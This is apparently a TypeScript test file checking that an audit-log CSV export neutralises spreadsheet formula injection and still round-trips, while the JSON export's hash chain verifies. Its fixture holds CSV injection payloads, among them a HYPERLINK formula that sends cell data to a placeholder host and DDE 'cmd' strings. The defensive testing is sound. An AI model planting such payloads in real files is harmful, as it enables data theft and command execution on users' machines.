/** The CSV export neutralises formulas (OWASP) and still round-trips; the JSON export and its hashes are untouched. */
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { GENESIS_HASH, entryHash, verifyExport } from '../store/audit-chain';
import type { AuditRecord } from '../store/db';
import { CSV_COLUMNS, formatChunk, parseCsv } from './audit-export';
import { auditRowSchema } from './replies';

function entry(seq: number, fields: Partial<AuditRecord>, prevHash: string): AuditRecord {
  const base: Omit<AuditRecord, 'seq' | 'prevHash' | 'hash'> = {
    at: 1_800_000_000_000 + seq,
    actionId: `act_${seq}`,
    type: 'save',
    bucket: 'saves',
    paramsSummary: 'post=urn:li:activity:1',
    idempotencyKey: `k-${seq}`,
    requestedBy: null,
    startedAt: 1_800_000_000_000,
    finishedAt: 1_800_000_000_000 + seq,
    status: 'succeeded',
    code: null,
    message: 'ok',
    httpStatus: 200,
    mutated: true,
    linkedinRequests: 1,
    account: null,
    ...fields,
  };
  return { ...base, seq, prevHash, hash: entryHash(prevHash, base) };
}

// What a hostile backend could put in the fields it controls.
const hostile: Partial<AuditRecord> = {
  actionId: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  type: '+cmd|" /C calc"!A0',
  idempotencyKey: '-2+3',
  requestedBy: '@SUM(1+1)*cmd|" /C calc"!A0',
  paramsSummary: '\t=1+1',
  message: '\r=1+1',
  account: "'=already quoted",
};

describe('CSV export: formula injection', () => {
  const first = entry(1, hostile, GENESIS_HASH);
  const second = entry(
    2,
    { message: 'a "quoted", multi-line\r\nmessage', requestedBy: { principal: '=x' } },
    first.hash ?? '',
  );
  const csv = formatChunk([first, second], 'csv');

  it('no cell starts with =, +, -, @, tab or CR: each such cell is quoted and starts with an apostrophe', () => {
    const lines = csv.split('\r\n');
    for (const cell of [
      '"\'=HYPERLINK(',
      '"\'+cmd|',
      '"\'-2+3"',
      '"\'@SUM(',
      '"\'\t=1+1"',
      '"\'\r=1+1"',
      '"\'\'=already quoted"',
    ]) {
      expect(lines[0]).toContain(`,${cell}`);
    }
    // Every cell of the parsed file, as a spreadsheet sees it before stripping the guard.
    const rawCells = csv.match(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/g) ?? [];
    for (const raw of rawCells) expect(raw.replace(/^,/, '').replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('parsing gives back exactly the stored texts', () => {
    const [row] = parseCsv(csv);
    const at = (c: (typeof CSV_COLUMNS)[number]) => row?.[CSV_COLUMNS.indexOf(c)];
    expect(at('actionId')).toBe(hostile.actionId);
    expect(at('type')).toBe(hostile.type);
    expect(at('idempotencyKey')).toBe(hostile.idempotencyKey);
    expect(at('requestedBy')).toBe(hostile.requestedBy);
    expect(at('paramsSummary')).toBe(hostile.paramsSummary);
    expect(at('message')).toBe(hostile.message);
    expect(at('account')).toBe(hostile.account);
    expect(parseCsv(csv)[1]?.[CSV_COLUMNS.indexOf('message')]).toBe('a "quoted", multi-line\r\nmessage');
  });

  it('the JSON export is unchanged and verifies exactly (hashes are over the stored entries)', () => {
    const rows = z.array(auditRowSchema).parse(JSON.parse(`[${formatChunk([first, second], 'json')}]`));
    expect(rows[0]?.actionId).toBe(hostile.actionId);
    expect(verifyExport(rows)).toMatchObject({ altered: null, complete: true, gaps: [] });
  });
});
